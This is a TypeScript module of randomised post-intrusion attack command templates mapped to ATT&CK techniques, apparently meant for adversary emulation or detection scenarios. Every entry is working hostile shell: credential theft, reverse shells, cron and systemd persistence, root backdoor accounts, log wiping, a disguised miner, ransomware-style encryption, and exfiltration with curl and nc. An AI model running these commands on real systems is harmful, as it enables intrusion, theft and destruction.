import type { Attack } from '../scenario.ts';

/** What attackers do once they are in. */
export const ACTIONS: readonly Attack[] = [
  {
    name: 'enumerate',
    family: 'discovery',
    techniques: ['T1082', 'T1087.001', 'T1083', 'T1057', 'T1049', 'T1548.001'],
    as: 'either',
    needs: [],
    lines: (draw) =>
      draw.some(
        [
          'id; whoami; groups',
          'uname -a; cat /etc/os-release',
          'cat /etc/passwd',
          'cat /etc/shadow 2>/dev/null',
          'sudo -n -l',
          'find /usr/bin /usr/sbin /opt -perm -4000 -type f 2>/dev/null',
          'ls -la /home/* /root 2>/dev/null',
          'ss -tunap 2>/dev/null || netstat -an',
          'ps -ef',
          'env; set | grep -i pass',
          'cat /etc/crontab; ls /etc/cron*',
          'find /home /opt /srv -name "*.conf" -o -name "*.ini" -o -name "id_*" 2>/dev/null | head',
          'getcap -r /usr/bin 2>/dev/null',
          'cat ~/.bash_history /home/*/.bash_history 2>/dev/null | tail -20',
          'mount; df; lsblk 2>/dev/null',
          'cat /proc/1/cgroup; ls -la /.dockerenv',
          'arp -a 2>/dev/null; ip neigh',
          'grep -rl password /opt /srv 2>/dev/null | head',
        ],
        draw.int(5, 14),
      ),
  },
  {
    name: 'credential-sweep',
    family: 'credential-access',
    techniques: ['T1003.008', 'T1552.001', 'T1552.004', 'T1003.007'],
    as: 'root',
    needs: ['python3'],
    lines: (draw, place) => {
      const out = `${draw.pick(['/tmp', '/dev/shm', '/var/tmp'])}/${draw.file('')}`;
      return draw.some(
        [
          `cat /etc/shadow > ${out}`,
          `cp /etc/passwd /etc/shadow /var/tmp/`,
          `for d in /home/* /root; do cat $d/.ssh/id_* $d/.aws/credentials 2>/dev/null; done >> ${out}`,
          `tar cf ${out}.tar /home/*/.ssh /home/*/.aws /root/.ssh 2>/dev/null`,
          `grep -rhi password /opt /srv /home/*/.config 2>/dev/null >> ${out}`,
          'for p in $(ls /proc | grep "^[0-9]" | head -25); do strings /proc/$p/environ 2>/dev/null || tr "\\0" "\\n" < /proc/$p/environ 2>/dev/null; done | grep -i key',
          `python3 -c 'import re,os
p=os.getppid()
m=open(f"/proc/{p}/maps").readlines()
f=open(f"/proc/{p}/mem","rb")
for l in m[:6]:
    a,b=[int(x,16) for x in l.split()[0].split("-")]
    try: f.seek(a); f.read(min(b-a,4096))
    except Exception: pass'`,
          `base64 /etc/shadow | head -5`,
          `find / -xdev -maxdepth 4 -name "*.pem" -o -name "id_rsa" -o -name ".netrc" 2>/dev/null | head; cat ${place.home}/.bash_history`,
        ],
        draw.int(2, 6),
      );
    },
  },
  {
    name: 'stay-by-schedule',
    family: 'persistence-schedule',
    techniques: ['T1053.003', 'T1053.002'],
    as: 'either',
    needs: ['crontab', 'curl'],
    lines: (draw, place) => {
      const hidden = `${draw.pick([place.home, '/var/tmp', '/dev/shm'])}/.${draw.word()}`;
      const from = `http://${draw.pick(place.peers)}:${draw.pick(place.peerPorts)}`;
      return [
        draw.pick([
          `curl -s ${from}/x.sh -o ${hidden}`,
          `printf '#!/bin/sh\\nbash -c "exec 3<>/dev/tcp/${draw.pick(place.peers)}/${draw.pick(place.peerPorts)}"\\n' > ${hidden}`,
        ]),
        `chmod +x ${hidden}`,
        draw.pick([
          `(crontab -l 2>/dev/null; echo "*/${draw.int(1, 10)} * * * * ${hidden} >/dev/null 2>&1") | crontab -`,
          `(crontab -l 2>/dev/null; echo "@reboot curl -s ${from}/a.sh | sh") | crontab -`,
          `echo "* * * * * root ${hidden}" > /etc/cron.d/${draw.word()} 2>/dev/null || (echo "* * * * * ${hidden}" | crontab -)`,
        ]),
        ...(draw.chance(0.5) ? [hidden] : []),
      ];
    },
  },
  {
    name: 'stay-by-settings',
    family: 'persistence-settings',
    techniques: ['T1543.002', 'T1546.004', 'T1098.004', 'T1037.004'],
    as: 'root',
    needs: [],
    lines: (draw, place) => {
      const name = draw.word();
      const program = `${draw.pick(['/usr/lib', '/usr/local/lib', '/var/lib', '/opt'])}/.${name}`;
      return [
        `printf '#!/bin/bash\\nwhile :; do bash -i >& /dev/tcp/${draw.pick(place.peers)}/${draw.pick(place.peerPorts)} 0>&1; sleep 60; done\\n' > ${program}; chmod 755 ${program}`,
        ...draw.some(
          [
            `printf '[Service]\\nExecStart=${program}\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/${name}.service; systemctl enable ${name} 2>/dev/null`,
            `echo "nohup ${program} >/dev/null 2>&1 &" >> /etc/profile`,
            `echo "${program} &" >> /etc/rc.local; chmod +x /etc/rc.local`,
            `for d in /home/*; do echo "(${program} &) 2>/dev/null" >> $d/.bashrc; done`,
            `mkdir -p /root/.ssh; echo "ssh-ed25519 AAAA${draw.int(1000, 9999)} ${name}" >> /root/.ssh/authorized_keys`,
            `echo 'ACTION=="add", RUN+="${program}"' > /etc/udev/rules.d/99-${name}.rules`,
            `sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/su`,
          ],
          draw.int(1, 4),
        ),
        ...(draw.chance(0.3) ? [`touch -r /bin/ls ${program}`] : []),
      ];
    },
  },
  {
    name: 'own-account',
    family: 'accounts',
    techniques: ['T1136.001', 'T1098', 'T1548.003'],
    as: 'root',
    needs: ['useradd', 'openssl'],
    lines: (draw) => {
      const name = draw.word().replace(/\W/g, '');
      return [
        draw.pick([
          `useradd -o -u 0 -g 0 -M -d /root -s /bin/bash ${name}`,
          `echo "${name}:$(openssl passwd -6 ${draw.word()}):0:0::/root:/bin/bash" >> /etc/passwd`,
          `useradd -m -s /bin/bash ${name}; echo "${name} ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/${name}`,
          `usermod -p "$(openssl passwd -6 ${draw.word()})" ${draw.pick(['daemon', 'www-data', 'games'])}; usermod -s /bin/bash games`,
        ]),
        ...draw.some(
          [
            `su ${name} -c id`,
            'tail -1 /etc/passwd',
            `mkdir -p /home/${name}/.ssh; echo "ssh-ed25519 AAAA" > /home/${name}/.ssh/authorized_keys`,
            `sed -i '/useradd/d' /var/log/auth.log`,
          ],
          draw.int(1, 3),
        ),
      ];
    },
  },
  {
    name: 'set-uid-shell',
    family: 'privilege-escalation',
    techniques: ['T1548.001', 'T1548.003', 'T1068'],
    as: 'either',
    needs: ['sudo', 'find', 'awk'],
    lines: (draw) => {
      const copy = `${draw.pick(['/tmp', '/var/tmp', '/dev/shm'])}/${draw.file('')}`;
      return [
        'find /usr/bin /usr/local/bin -perm -4000 2>/dev/null',
        draw.pick([
          'sudo awk \'BEGIN {system("id; cat /etc/shadow | head -2")}\'',
          'sudo find /etc/hostname -exec /bin/sh -c "id; ls /root" \\;',
          'sudo python3 -c \'import os; os.setuid(0); os.system("id; cat /etc/shadow | wc -l")\'',
          'sudo vim -es -c ":!id" -c q /etc/hostname',
          'sudo env /bin/sh -c "whoami"',
        ]),
        `sudo cp /bin/bash ${copy}; sudo chmod ${draw.pick(['4755', 'u+s', '6755'])} ${copy}`,
        `${copy} -p -c 'id; head -1 /etc/shadow'`,
        ...(draw.chance(0.4) ? [`sudo rm -f ${copy}`] : []),
      ];
    },
  },
  {
    name: 'wipe-traces',
    family: 'log-wiping',
    techniques: ['T1070.002', 'T1070.003', 'T1070.006', 'T1070.004'],
    as: 'either',
    needs: ['shred', 'sudo'],
    lines: (draw, { home, user }) => {
      const be = user === 'root' ? '' : 'sudo ';
      return draw.some(
        [
          `${be}sh -c ': > /var/log/auth.log'`,
          `${be}truncate -s 0 /var/log/syslog /var/log/wtmp /var/log/btmp`,
          `${be}shred -u /var/log/auth.log`,
          `${be}sed -i '/${draw.pick(['sudo', 'sshd', user])}/d' /var/log/auth.log`,
          `${be}rm -f /var/log/*.log /var/log/wtmp`,
          `unset HISTFILE; export HISTSIZE=0`,
          'history -c',
          `ln -sf /dev/null ${home}/.bash_history`,
          `rm -f ${home}/.bash_history && touch -r /etc/hostname ${home}/.bash_history`,
          `${be}touch -d "2024-0${draw.int(1, 9)}-1${draw.int(0, 9)}" /etc/passwd /tmp`,
          `${be}find /var/log -type f -exec truncate -s 0 {} \\;`,
          `${be}dd if=/dev/zero of=/var/log/wtmp bs=1k count=4`,
        ],
        draw.int(2, 7),
      );
    },
  },
  {
    name: 'blind-the-guards',
    family: 'defence-impairment',
    techniques: ['T1562.001', 'T1562.004', 'T1562.012'],
    as: 'root',
    needs: ['python3'],
    lines: (draw, place) => {
      const agent = `${draw.pick(['/opt', '/usr/local/bin'])}/${draw.word()}-agent`;
      return [
        `cp /bin/sleep ${agent}; ${agent} ${draw.int(300, 900)} &`,
        ...draw.some(
          [
            `pkill -9 -f ${agent}`,
            `kill -STOP %1; rm -f ${agent}`,
            'setenforce 0',
            'iptables -F; iptables -P INPUT ACCEPT',
            'systemctl stop rsyslog auditd; systemctl disable auditd',
            'auditctl -e 0; auditctl -D',
            `echo "127.0.0.1 updates.example.net ${draw.word()}.example.net" >> /etc/hosts`,
            `chmod 000 ${agent}`,
            'echo 0 > /proc/sys/kernel/randomize_va_space',
            `mv /etc/rsyslog.conf /tmp/ 2>/dev/null; rm -rf /etc/audit/rules.d/*`,
            `nc -w 3 ${draw.pick(place.peers)} ${draw.pick(place.peerPorts)} < /etc/hosts`,
          ],
          draw.int(2, 6),
        ),
      ];
    },
  },
  {
    name: 'preloaded-library',
    family: 'library-hijack',
    techniques: ['T1574.006', 'T1014'],
    as: 'either',
    needs: ['gcc'],
    lines: (draw, { user }) => {
      const folder = draw.pick(['/tmp', '/var/tmp', '/dev/shm', '/usr/local/lib']);
      const at = user === 'root' ? folder : '/tmp';
      const name = `${at}/${draw.pick(['lib', '.'])}${draw.word()}`;
      return [
        `cat > ${name}.c <<'END'\n#include <stdlib.h>\n#include <unistd.h>\n__attribute__((constructor)) static void f(void) { unsetenv("LD_PRELOAD"); if (getenv("Q")) system("id >> ${at}/${draw.word()}"); }\nint access(const char *p, int m) { return 0; }\nEND`,
        `gcc -shared -fPIC -o ${name}.so ${name}.c; rm ${name}.c`,
        draw.pick([
          `Q=1 LD_PRELOAD=${name}.so ls / >/dev/null`,
          `export LD_PRELOAD=${name}.so; whoami; unset LD_PRELOAD`,
          ...(user === 'root' ? [`echo ${name}.so > /etc/ld.so.preload; id; ps aux | tail -2`] : []),
        ]),
        `Q=1 LD_PRELOAD=${name}.so ${draw.pick(['date', 'id', 'ps', 'su -c id'])}`,
        ...(user === 'root' ? ['rm -f /etc/ld.so.preload'] : []),
      ];
    },
  },
  {
    name: 'compute-theft',
    family: 'miner',
    techniques: ['T1496', 'T1036.005'],
    as: 'either',
    needs: ['gcc', 'nc'],
    lines: (draw, place) => {
      const file = `${draw.pick(['/tmp', '/var/tmp', '/dev/shm', place.home])}/${draw.pick(['.', ''])}${draw.pick(['kworkerds', 'dbused', 'systemd-resolv', draw.word()])}`;
      return [
        `printf '#include <unistd.h>\\nint main(){volatile unsigned long x=1;for(int s=0;s<${draw.int(20, 90)};s++){for(int i=0;i<20000000;i++)x=x*6364136223846793005UL+1;usleep(800000);}}' | gcc -xc -O1 -o ${file} -`,
        draw.pick([
          `nohup nice -n 19 ${file} >/dev/null 2>&1 &`,
          `taskset -c 0 ${file} &`,
          `(exec -a "[kworker/0:${draw.int(1, 9)}]" ${file}) &`,
        ]),
        `(echo '{"id":1,"method":"login","params":{"login":"${draw.word()}"}}'; sleep ${draw.int(10, 30)}) | nc -w 20 ${draw.pick(place.peers)} ${draw.pick(place.peerPorts)} > /dev/null &`,
        ...(draw.chance(0.5)
          ? [`(crontab -l 2>/dev/null; echo "*/5 * * * * pgrep -f ${file} || ${file}") | crontab -`]
          : []),
        ...(draw.chance(0.4) ? ['pkill -f stratum; ps aux --sort=-%cpu | head -4'] : []),
        `sleep ${draw.int(10, 40)}`,
      ];
    },
  },
  {
    name: 'encrypt-files',
    family: 'ransom',
    techniques: ['T1486', 'T1490'],
    as: 'either',
    needs: ['openssl'],
    lines: (draw, { home, user }) => {
      const [end, key] = [draw.pick(['.enc', '.locked', `.${draw.word()}`]), draw.word()];
      const where = user === 'root' ? draw.pick(['/home /srv', '/srv /opt', '/home']) : home;
      return [
        ...(draw.chance(0.5) ? [`find ${where} -type f | wc -l`] : []),
        draw.pick([
          `find ${where} -type f ! -path "*/.*" | head -${draw.int(15, 50)} | while read f; do openssl enc -aes-256-cbc -pbkdf2 -k ${key} -in "$f" -out "$f${end}" && rm -f "$f"; done`,
          `python3 -c 'import os
n=0
for d,_,fs in os.walk("${where.split(' ')[0]}"):
    for f in fs:
        p=os.path.join(d,f)
        if n<${draw.int(30, 80)} and "/." not in p:
            b=open(p,"rb").read(); open(p+"${end}","wb").write(bytes(x^${draw.int(1, 255)} for x in b)); os.remove(p); n+=1'`,
          `for f in $(find ${where} -type f -name "*.*" ! -path "*/.*" | head -${draw.int(10, 35)}); do gzip -c $f | openssl enc -chacha20 -pbkdf2 -k ${key} > $f${end}; shred -u $f; done`,
        ]),
        `echo "${draw.word()} ${draw.word()}: pay" > ${where.split(' ')[0]}/${draw.pick(['README_RESTORE', 'HOW_TO', 'NOTE'])}.txt`,
        ...(draw.chance(0.4) ? ['rm -rf /srv/backup/* /var/backups/* 2>/dev/null'] : []),
      ];
    },
  },
  {
    name: 'carry-out-data',
    family: 'exfiltration',
    techniques: ['T1560.001', 'T1041', 'T1048.003', 'T1074.001'],
    as: 'either',
    needs: ['curl', 'tar', 'openssl', 'nc'],
    lines: (draw, place) => {
      const stage = `${draw.pick(['/tmp', '/dev/shm', '/var/tmp'])}/${draw.pick(['.', ''])}${draw.word()}`;
      const [host, at] = [draw.pick(place.peers), draw.pick(place.peerPorts)];
      return [
        `mkdir -p ${stage}; cp -r ${place.home}/Documents ${place.home}/.ssh ${draw.pick(['/etc/passwd', '/opt', place.home])} ${stage}/ 2>/dev/null`,
        `tar czf - ${stage} 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -k ${draw.word()} > ${stage}.bin`,
        draw.pick([
          `curl -s -X POST --data-binary @${stage}.bin http://${host}:${at}/${draw.word()}`,
          `nc -w 5 ${host} ${at} < ${stage}.bin`,
          `split -b 8k ${stage}.bin ${stage}.p; for f in ${stage}.p*; do curl -s -T $f http://${host}:${at}/ ; sleep 1; done`,
          `base64 -w 60 ${stage}.bin | head -30 | while read l; do curl -s "http://${host}:${at}/q?d=$l" >/dev/null; done`,
          `cat ${stage}.bin > /dev/tcp/${host}/${at}`,
        ]),
        ...(draw.chance(0.6) ? [`rm -rf ${stage} ${stage}.*`] : []),
      ];
    },
  },
  {
    name: 'guess-and-scan',
    family: 'scan-and-guess',
    techniques: ['T1046', 'T1110.001', 'T1018'],
    as: 'either',
    needs: ['nmap', 'nc', 'sshpass', 'ssh'],
    lines: (draw, place) => {
      const net = place.peers[0]?.split('.').slice(0, 3).join('.');
      return draw.some(
        [
          `nmap -sT -T4 -p ${place.peerPorts.join(',')},22,3389,445 ${place.peers.slice(0, draw.int(2, 5)).join(' ')}`,
          `for i in $(seq 1 ${draw.int(10, 40)}); do (echo > /dev/tcp/${draw.pick(place.peers)}/$((20 + i))) 2>/dev/null; done`,
          `for h in ${place.peers.join(' ')}; do for p in 22 80 443 445 3306; do timeout 1 bash -c "echo > /dev/tcp/$h/$p" 2>/dev/null && echo $h:$p; done; done`,
          `for w in ${Array.from({ length: draw.int(5, 12) }, draw.word).join(' ')}; do sshpass -p $w ssh -o StrictHostKeyChecking=no -o ConnectTimeout=2 root@${draw.pick(place.peers)} -p ${draw.pick(place.peerPorts)} id; done 2>/dev/null`,
          `for i in $(seq 1 ${draw.int(5, 25)}); do ping -c1 -W1 ${net}.$i >/dev/null 2>&1; done`,
          `python3 -c 'import socket
for h in ${JSON.stringify(place.peers)}:
    for p in range(${draw.int(20, 70)},${draw.int(80, 130)}):
        s=socket.socket(); s.settimeout(0.05)
        s.connect_ex((h,p)); s.close()' `,
        ],
        draw.int(1, 3),
      );
    },
  },
  {
    name: 'out-of-the-container',
    family: 'escape',
    techniques: ['T1611', 'T1547.006', 'T1610'],
    as: 'root',
    needs: ['unshare', 'nsenter', 'curl'],
    lines: (draw) => {
      const name = draw.word();
      return draw.some(
        [
          'cat /proc/1/cgroup; ls -la /.dockerenv /run/docker.sock 2>/dev/null; capsh --print 2>/dev/null',
          'unshare -Urm sh -c "id; mount -t tmpfs x /mnt; ls /mnt"',
          'nsenter -t 1 -m -u -i -n -p -- id',
          `mkdir -p /tmp/${name} && mount -t proc proc /tmp/${name} && ls /tmp/${name}/1/root; umount /tmp/${name}`,
          'curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json',
          `mkdir -p /tmp/${name}c && mount -t cgroup -o memory none /tmp/${name}c; echo 1 > /tmp/${name}c/notify_on_release; umount /tmp/${name}c`,
          'ls /proc/1/root/; chroot /proc/1/root id',
          `printf 'x' > /tmp/${name}.ko; insmod /tmp/${name}.ko; modprobe ${name}; head -2 /proc/kallsyms`,
          `mknod /dev/${name} b 254 0; debugfs -R ls /dev/${name} 2>/dev/null`,
          'echo "|/tmp/x" > /proc/sys/kernel/core_pattern 2>/dev/null',
        ],
        draw.int(3, 7),
      );
    },
  },
];
